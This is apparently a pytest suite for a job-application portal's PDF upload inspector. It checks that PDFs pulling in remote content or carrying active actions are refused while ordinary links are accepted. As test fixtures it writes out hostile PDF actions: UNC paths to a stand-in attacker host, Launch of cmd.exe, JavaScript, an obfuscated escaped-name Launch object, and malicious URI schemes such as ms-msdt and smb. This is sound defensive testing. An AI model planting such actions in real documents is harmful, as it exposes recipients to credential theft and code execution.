"""A PDF that loads content from elsewhere when it is shown is rejected; clickable links are accepted."""

import io
from itertools import pairwise

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject

from portal.adapters.inspection.inspection import inspect
from portal.platform.errors import FileKind, UploadReason, UploadRefused
from tests.parts import files, pdfs
from tests.parts.pdfs import action, changed, on_click, opens_with, text

REMOTE = "\\\\attacker.example\\share\\x.pdf"


def refused(content: bytes) -> UploadReason:
    with pytest.raises(UploadRefused) as raised:
        inspect(io.BytesIO(content), max_bytes=50_000_000)
    assert raised.value.kind is FileKind.PDF
    return raised.value.reason


def stream(writer: PdfWriter, **members: object) -> DecodedStreamObject:
    made = DecodedStreamObject()
    made.set_data(b"q Q")
    made.update({NameObject(f"/{key}"): value for key, value in members.items()})
    return writer._add_object(made)


def draws(**members: object) -> pdfs.Change:
    """Let the first page draw an object with these members."""

    def change(writer: PdfWriter) -> None:
        one = stream(writer, Type=NameObject("/XObject"), Subtype=NameObject("/Form"), **members)
        resources = writer.pages[0]["/Resources"].get_object()
        resources[NameObject("/XObject")] = DictionaryObject({NameObject("/X9"): one})

    return change


def unreferenced(one: DictionaryObject) -> pdfs.Change:
    return lambda writer: writer._add_object(one)


URL_FILE = DictionaryObject(
    {NameObject("/FS"): NameObject("/URL"), NameObject("/F"): text("https://attacker.example/")}
)
REFERENCE = DictionaryObject({NameObject("/F"): text(REMOTE), NameObject("/Page"): NumberObject(0)})
OPI = DictionaryObject({NameObject("/2.0"): DictionaryObject({NameObject("/F"): text(REMOTE)})})


@pytest.mark.parametrize(
    "change",
    [draws(F=text(REMOTE)), draws(F=URL_FILE), draws(Ref=REFERENCE), draws(OPI=OPI)],
    ids=["external stream", "external stream by URL", "reference XObject", "OPI"],
)
@pytest.mark.parametrize("packed", [False, True])
def test_content_from_another_file_is_rejected(change: pdfs.Change, packed: bool) -> None:
    content = changed(change)
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.EXTERNAL_CONTENT


def in_the_catalogue(**members: object) -> pdfs.Change:
    return lambda writer: writer.root_object.update({NameObject(f"/{key}"): one for key, one in members.items()})


PROFILE = DictionaryObject(
    {NameObject("/DestOutputProfileRef"): DictionaryObject({NameObject("/URLs"): ArrayObject()})}
)
SLIDES = DictionaryObject({NameObject("/Names"): ArrayObject()})


@pytest.mark.parametrize(
    "change",
    [
        in_the_catalogue(OutputIntents=ArrayObject([PROFILE])),
        in_the_catalogue(AF=ArrayObject([URL_FILE])),
        in_the_catalogue(AlternatePresentations=SLIDES),
    ],
    ids=["a profile of colours", "a file that belongs to it, by URL", "a slide show"],
)
@pytest.mark.parametrize("packed", [False, True])
def test_document_parts_in_another_file_are_rejected(change: pdfs.Change, packed: bool) -> None:
    content = changed(change)
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.EXTERNAL_CONTENT


@pytest.mark.parametrize("member", ["NA", "PA"])
def test_presentation_steps_with_external_actions_are_rejected(member: str) -> None:
    step = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/NavNode"),
            NameObject(f"/{member}"): action("URI", URI="https://attacker.example/"),
        }
    )
    assert (
        refused(changed(lambda writer: writer.pages[0].update({NameObject("/PresSteps"): step})))
        == UploadReason.ACTIVE_CONTENT
    )


WEB = action("URI", URI="https://attacker.example/")


def steps(*members: DictionaryObject) -> pdfs.Change:
    """Give the first page linked presentation steps without a type, which is optional."""

    def change(writer: PdfWriter) -> None:
        added = [writer._add_object(one) for one in members]
        for one, following in pairwise(added):
            one.get_object()[NameObject("/Next")] = following
            following.get_object()[NameObject("/Prev")] = one
        writer.pages[0][NameObject("/PresSteps")] = added[0]

    return change


def step(**members: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in members.items()})


@pytest.mark.parametrize("one", [WEB, action("GoToR", F="x.pdf")], ids=["the web", "a file"])
@pytest.mark.parametrize("member", ["NA", "PA"])
@pytest.mark.parametrize("before", [0, 1, 5])
def test_presentation_steps_without_a_type_are_rejected(member: str, one: DictionaryObject, before: int) -> None:
    tame = [step(NA=action("GoTo", D="first")) for _ in range(before)]
    content = changed(steps(*tame, step(**{member: one})))
    assert refused(content) == UploadReason.ACTIVE_CONTENT
    assert refused(pdfs.packed(content)) == UploadReason.ACTIVE_CONTENT


def test_presentation_steps_within_the_document_are_accepted() -> None:
    content = changed(steps(*[step(NA=action("GoTo", D="first"), Dur=NumberObject(1)) for _ in range(20)]))
    assert inspect(io.BytesIO(content), max_bytes=50_000_000).extension == "pdf"


def test_endless_presentation_steps_are_rejected() -> None:
    assert (
        refused(changed(steps(*[step(NA=action("GoTo", D="first")) for _ in range(200)]))) == UploadReason.TOO_COMPLEX
    )


@pytest.mark.parametrize("name", ["Print", "SaveAs"])
def test_a_pdf_that_prints_or_saves_automatically_is_rejected(name: str) -> None:
    one = action("Named", N=NameObject(f"/{name}"))
    assert refused(changed(opens_with(one))) == UploadReason.ACTIVE_CONTENT
    assert inspect(io.BytesIO(changed(on_click(one))), max_bytes=50_000_000).extension == "pdf"


@pytest.mark.parametrize("kind", ["Thread", "GoToR"])
def test_a_pdf_that_opens_another_file_is_rejected(kind: str) -> None:
    assert refused(changed(opens_with(action(kind, F=REMOTE, D="x")))) == UploadReason.ACTIVE_CONTENT
    chained = action("GoTo", D="first", Next=ArrayObject([action(kind, F=REMOTE)]))
    assert refused(changed(opens_with(chained))) == UploadReason.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "one",
    [
        action("JavaScript", JS="app.alert(1)"),
        action("Launch", F="cmd.exe"),
        action("Thread", F=REMOTE),
        action("GoToR", F=REMOTE),
        action("SubmitForm", F="https://attacker.example/"),
    ],
    ids=lambda one: one["/S"][1:],
)
@pytest.mark.parametrize("packed", [False, True])
def test_unreferenced_actions_are_rejected(one: DictionaryObject, packed: bool) -> None:
    content = changed(unreferenced(one))
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.ACTIVE_CONTENT


def test_an_action_labelled_as_a_structure_element_is_rejected() -> None:
    one = action("Launch", F="cmd.exe")
    one[NameObject("/Type")] = NameObject("/StructElem")
    assert refused(pdfs.packed(changed(on_click(one)))) == UploadReason.ACTIVE_CONTENT


def test_an_action_outside_the_table_with_an_escaped_name_is_rejected() -> None:
    hidden = b"\n99 0 obj\n<< /Type /Action /S /L#61unc#68 /F (cmd.exe) >>\nendobj\n"
    content = files.real("cv.pdf")
    at = content.rindex(b"startxref")
    assert refused(content[:at] + hidden + content[at:]) == UploadReason.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "one",
    [
        *(
            action("URI", URI=address)
            for address in (
                "file://attacker.example/x.exe",
                "file:////attacker.example/x.exe",
                "file:///\\\\attacker.example\\x.exe",
                "file:///c:/\\attacker.example/x",
                "file:x.exe",
                "\\\\attacker.example\\x",
                "//attacker.example/x",
                " \\\\attacker.example\\x",
                "javascript:alert(1)",
                "Java\tScript:alert(1)",
                "vbscript:x",
                "data:text/html,x",
                "ms-msdt:/id x",
                "search-ms:query=x",
                "smb://attacker.example/x",
            )
        ),
        action("GoToR", F=REMOTE, D="x"),
        action("GoToR", F="/attacker.example/share/x.pdf", D="x"),
        action("GoToR", F=DictionaryObject({NameObject("/F"): text("x.pdf"), NameObject("/UF"): text(REMOTE)}), D="x"),
        action("Thread", F=REMOTE, D=NumberObject(0)),
    ],
)
@pytest.mark.parametrize("packed", [False, True])
def test_links_to_other_machines_or_programs_are_rejected(one: DictionaryObject, packed: bool) -> None:
    content = changed(on_click(one))
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.ACTIVE_CONTENT


def test_a_base_url_on_another_machine_is_rejected() -> None:
    base = DictionaryObject({NameObject("/Base"): text("file://attacker.example/share/")})
    assert refused(changed(in_the_catalogue(URI=base))) == UploadReason.ACTIVE_CONTENT
    base = DictionaryObject({NameObject("/Base"): text("https://marit.example/")})
    assert inspect(io.BytesIO(changed(in_the_catalogue(URI=base))), max_bytes=50_000_000).extension == "pdf"


ADDRESSES = [
    "https://marit.example/",
    "HTTP://marit.example/?next=file://x",
    "mailto:marit@post.example",
    "tel:+4730901820",
    "skype:marit?chat",
    "www.linkedin.example/in/marit",
    "marit.example:8080/cv",
    "#top",
    "file:///C:\\Users\\Marit\\Documents\\linkedin.example\\in\\marit",
]
"""The last as word processors write a link without https://."""


@pytest.mark.parametrize(
    "one",
    [
        *(action("URI", URI=address) for address in ADDRESSES),
        action("GoToR", F="other.pdf", D="x"),
        action("GoToR", F=DictionaryObject({NameObject("/F"): text("www.linkedin.example/in/marit")}), D="x"),
        action("Thread", D=NumberObject(0)),
    ],
)
def test_clickable_links_are_accepted(one: DictionaryObject) -> None:
    assert inspect(io.BytesIO(changed(on_click(one))), max_bytes=50_000_000).extension == "pdf"


def test_links_to_articles_of_the_document_are_accepted() -> None:
    content = changed(opens_with(action("Thread", D=NumberObject(0))))
    assert inspect(io.BytesIO(content), max_bytes=50_000_000).extension == "pdf"


def test_a_link_to_a_deleted_page_is_accepted() -> None:
    content = changed(unreferenced(pdfs.annotation("Link", A=action("URI", URI="https://marit.example/"))))
    assert inspect(io.BytesIO(content), max_bytes=50_000_000).extension == "pdf"


def test_a_page_that_a_shared_tree_lists_many_times_is_counted_once() -> None:
    found = inspect(io.BytesIO(pdfs.shared_page_tree()), max_bytes=50_000_000)
    assert found.pages == 1
